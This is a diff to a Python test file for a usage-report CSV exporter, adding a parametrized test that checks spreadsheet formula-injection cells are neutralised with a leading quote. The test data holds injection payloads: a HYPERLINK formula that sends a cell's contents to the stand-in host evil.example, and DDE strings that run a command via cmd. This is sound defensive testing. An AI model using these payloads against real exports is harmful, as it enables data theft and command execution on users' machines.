@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
+import io
 import json
 import random
 from collections.abc import AsyncIterator
@@ -181,3 +183,26 @@ async def test_report_totals_reconcile_with_random_ledger_rows(store: SqliteStor
     assert sum(daily.cost_pico.values()) == sum(r.cost_pico for r in mine)
     assert sum(daily.tokens.values()) == sum(r.prompt_tokens + r.completion_tokens for r in mine)
     assert sum(daily.cached_tokens.values()) == sum(r.cached_tokens for r in mine)
+
+
+@pytest.mark.parametrize(
+    "group",
+    [
+        '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(group: str) -> None:
+    period = ReportPeriod.parse("2026-11-01", "2026-11-30")
+    report = UsageReport("acme", period, "model", "USD", [UsageGroup(group, 1, 1, 1, 1)])
+    rows = list(csv.reader(io.StringIO(render_csv(report), newline="")))
+    assert rows[1][0] == "'" + group.replace("\r", "\n")  # one row, whatever the group holds
+    assert rows[2][0] == "total"  # plain cells are left alone
+
+
+def test_a_harmless_group_is_left_as_it_is() -> None:
+    assert render_csv(sample_report()).splitlines()[1].startswith("m1,")
